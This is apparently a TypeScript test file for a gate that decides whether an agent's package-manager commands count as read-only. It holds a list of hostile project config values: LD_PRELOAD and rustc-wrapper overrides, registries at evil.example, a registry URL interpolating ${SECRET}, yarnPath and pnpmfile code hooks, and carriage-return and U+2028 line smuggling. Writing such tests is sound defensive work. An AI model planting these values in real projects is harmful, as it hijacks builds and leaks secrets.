import assert from 'node:assert/strict';
import { FILE_NAMES, PROJECT_FILES } from '../../../../src/facts/projectFiles';
import { configuration, fakeGate, verdict, WORKSPACE } from '../fakeGate';
import { decide } from '../../../../src/engine/decide';

const never = new AbortController().signal;

async function isProven(command: string, files: Readonly<Record<string, string>>): Promise<boolean> {
  const tree = Object.fromEntries(Object.entries(files).map(([name, text]) => [`${WORKSPACE}/${name}`, text]));
  const gate = fakeGate({ tree, configuration: configuration(), classifier: () => verdict('allow') });
  return (
    (await decide({ tool: 'bash', input: { command }, cwd: WORKSPACE }, gate, never)).stage === 'read-only-command'
  );
}

describe('what a project configures ends a proof', () => {
  const hostile: readonly [string, Record<string, string>][] = [
    ['cargo tree --frozen', { '.cargo/config.toml': '[env]\nLD_PRELOAD = "./x.so"\n' }],
    ['cargo metadata --frozen', { '.cargo/config.toml': '[build]\nrustflags = ["-C", "linker=./x"]\n' }],
    ['cargo tree --frozen', { '.cargo/config.toml': '[build]\nrustc-wrapper = "./x"\n' }],
    ['cargo tree --frozen', { '.cargo/config.toml': '"b\\u0075ild".rustc = "./x"\n' }],
    ['cargo tree --frozen', { '.cargo/config.toml': 'build = { rustc = "./x" }\n' }],
    ['cargo tree --frozen', { '.cargo/config': '' }],
    ['cargo --version', { 'rust-toolchain.toml': '[toolchain]\npath = "./x"\n' }],
    ['npm view x', { '.npmrc': 'registry=http://host/${SECRET}/\n' }],
    ['npm view x', { '.npmrc': 'registry=https://evil.example/\n' }],
    ['npm outdated', { '.npmrc': '@scope:registry=https://evil.example/\n' }],
    ['npm ls', { '.npmrc': 'userconfig=./other\n' }],
    ['npm ls', { '.npmrc': 'git=./evil\n' }],
    ['npm ls', { '.npmrc': 'loglevel=${SECRET}\n' }],
    ['npm ls', { '.npmrc': 'an-unknown-key=1\n' }],
    ['npm ls', { '.npmrc': '[section]\nloglevel=silent\n' }],
    ['pnpm outdated', { '.npmrc': 'registry=https://evil.example/\n' }],
    ['pnpm list', { 'pnpm-workspace.yaml': 'pnpmfile: ./x.cjs\n' }],
    ['pnpm list', { 'pnpm-workspace.yaml': 'configDependencies:\n  x: 1\n' }],
    ['pnpm list', { 'pnpm-workspace.yaml': '{ pnpmfile: ./x.cjs }\n' }],
    ['yarn info x', { '.yarnrc.yml': 'npmRegistryServer: "https://evil.example"\n' }],
    ['yarn --version', { '.yarnrc.yml': 'yarnPath: ./x.cjs\n' }],
    ['yarn --version', { '.yarnrc': 'yarnPath "./x.js"\n' }],
    ['yarn list', { '.yarnrc': 'yarn-path "./x.js"\n' }],
    ['yarn list', { '.pnp.cjs': '' }],
    ['bun info x', { 'bunfig.toml': '[install]\nregistry = "https://evil.example"\n' }],
    ['uv pip list', { 'uv.toml': '[pip]\npython = "./evil.sh"\n' }],
    ['uv pip list', { 'pyproject.toml': '[tool.uv.pip]\npython="./evil.sh"\n' }],
    [
      'composer show -a x/y --no-plugins --no-scripts',
      { 'composer.json': '{"repositories":[{"type":"composer","url":"https://x"}]}' },
    ],
    ['docker compose ps', { 'compose.yml': 'include:\n  - oci://evil.example/x\n' }],
    ['docker-compose ps', { 'docker-compose.yaml': 'services: {}\nx: !evil y\n' }],
    // Some readers end a line at a lone carriage return, or at U+2028.
    ['npm view x', { '.npmrc': 'color=\ruserconfig=other\n' }],
    ['yarn --version', { '.yarnrc': 'save-prefix a\ryarn-path ./x.js' }],
    ['yarn --version', { '.yarnrc': 'save-prefix:\ryarn-path ./x.js' }],
    ['yarn --version', { '.yarnrc.yml': 'nodeLinker:\ryarnPath: ./x.cjs\n' }],
    ['yarn --version', { '.yarnrc.yml': 'nodeLinker: node-modules\n\ryarnPath: ./x.cjs\n' }],
    ['pnpm list', { 'pnpm-workspace.yaml': 'nodeLinker:\rpnpmfile: ./x.cjs\n' }],
    ['docker compose ps', { 'compose.yml': 'name:\u2028include: ./x.yml\nservices:\n  a:\n    image: x\n' }],
  ];
  for (const [command, files] of hostile) {
    it(`${command}: ${JSON.stringify(files)}`, async () => {
      assert.equal(await isProven(command, files), false);
    });
  }

  const ordinary: readonly [string, Record<string, string>][] = [
    ['npm ls', { '.npmrc': 'save-exact=true\n; a comment\nengine-strict = true\n' }],
    ['npm view x', { '.npmrc': 'registry=https://registry.npmjs.org/\n' }],
    [
      'pnpm list',
      { 'pnpm-workspace.yaml': "packages:\n  - 'packages/*'\n  - apps/web\nonlyBuiltDependencies:\n  - esbuild\n" },
    ],
    ['yarn --version', { '.yarnrc.yml': 'nodeLinker: node-modules\nenableTelemetry: false\n' }],
    [
      'cargo tree --frozen',
      { '.cargo/config.toml': '[alias]\nxtask = "run"\n[net]\nretry = 3\n[profile.dev]\nopt-level = 1\n' },
    ],
    ['cargo tree --frozen', { 'rust-toolchain.toml': '[toolchain]\nchannel = "1.80"\ncomponents = ["clippy"]\n' }],
    [
      'uv pip list',
      { 'pyproject.toml': '[project]\nname = "x"\nurls.Home = "https://x.example"\n[tool.black]\nline-length = 100\n' },
    ],
    ['docker compose ps', { 'compose.yml': 'services:\n  web:\n    image: nginx\nvolumes:\n  data:\n' }],
    ['node --version', { '.nvmrc': 'lts/iron\n', '.tool-versions': 'nodejs 20.1.0\npython 3.12\n' }],
  ];
  for (const [command, files] of ordinary) {
    it(`but not what is harmless: ${command}: ${JSON.stringify(files)}`, async () => {
      assert.equal(await isProven(command, files), true);
    });
  }

  it('an unknown key in any of these files', async () => {
    const added: Readonly<Record<string, string>> = {
      ini: 'made-up-key=1\n',
      pairs: 'made-up-key 1\n',
      yaml: 'madeUpKey: 1\n',
      toml: 'made-up-key = 1\n',
      json: '{"made-up-key":1}',
      lines: '!made up/key\n',
    };
    const commands: Readonly<Record<string, string>> = {
      npm: 'npm ls',
      pnpm: 'pnpm list',
      yarn: 'yarn --version',
      cargo: 'cargo tree --frozen',
      composer: 'composer show --no-plugins --no-scripts',
      node: 'node --version',
      uv: 'uv --version',
      dotnet: 'dotnet --version',
      'docker-compose': 'docker-compose ps',
    };
    for (const { programs, path, format, isWritten } of PROJECT_FILES) {
      if (isWritten === true) continue;
      const command = programs
        .split(' ')
        .map((program) => commands[program])
        .find((known) => known !== undefined);
      if (command === undefined) continue;
      assert.equal(await isProven(command, {}), true, command);
      const [name = path] = FILE_NAMES[path] ?? [];
      const text = path === '.env' ? 'COMPOSE_FILE=/tmp/x.yaml\n' : (added[format ?? 'lines'] ?? '');
      assert.equal(await isProven(command, { [name]: text }), false, `${command} with ${name}`);
    }
  });
});
